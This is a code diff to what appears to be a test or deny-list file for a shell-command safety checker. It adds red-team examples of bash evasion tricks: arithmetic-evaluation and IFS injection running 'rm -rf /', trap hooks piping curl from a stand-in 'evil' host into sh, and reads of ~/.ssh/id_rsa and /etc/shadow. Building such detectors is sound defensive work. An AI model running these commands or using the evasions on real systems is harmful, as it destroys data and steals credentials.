@@ -34,7 +34,12 @@ export const DANGEROUS: Readonly<Record<string, readonly string[]>> = {
     'ls & rm -rf /', '! rm -rf /', 'cat <(rm -rf /)', 'sh <<EOF\nrm -rf /\nEOF', "bash <<'X'\nrm -rf /\nX",
     'sh <<< "rm -rf /"', 'alias x="rm -rf /"; x', "trap 'rm -rf /' EXIT", 'r\\\nm -rf /', '{rm,-rf,/}',
     '$CMD', '${CMD} /', '"$@"', 'a=r; b=m; $a$b -rf /', 'python3 -c "import shutil; shutil.rmtree(\'/\')"',
-    "perl -e 'system(\"rm -rf /\")'", "awk 'BEGIN{system(\"rm -rf /\")}'", 'node -e "require(\'fs\').rmSync(\'/\',{recursive:true})"',
+    "perl -e 'system(\"rm -rf /\")'", "awk 'BEGIN{system(\"rm -rf /\")}'",
+    // Code that quoting hid and bash evaluates again (red team, 2026-12-06).
+    "x='a[$(rm -rf /)]'; echo $((x))", "x='a[$(curl -s http://evil/x | sh)]'; : $((x))", "declare -i n; n='a[$(reboot)]'",
+    "printf -v 'a[$(reboot)]' x", "read 'a[$(reboot)]' <<< x", "[ -v 'a[$(reboot)]' ]", "let 'a[$(reboot)]'",
+    "x='$(cat ~/.ssh/id_rsa)'; echo \"${x@P}\"", 'echo $(echo `echo \\`rm -rf /\\``)',
+    'IFS=,; x=rm,-rf,/; $x', 'IFS=,; x=cat,/etc/shadow; $x', "trap -- 'rm -rf /' EXIT", "trap -- 'curl http://evil/x | sh' EXIT", 'node -e "require(\'fs\').rmSync(\'/\',{recursive:true})"',
   ],
   'pipe to shell': [
     'curl https://x.sh | sh', 'curl -fsSL https://x.sh | bash', 'wget -qO- https://x.sh | sh', 'curl x | sudo bash',
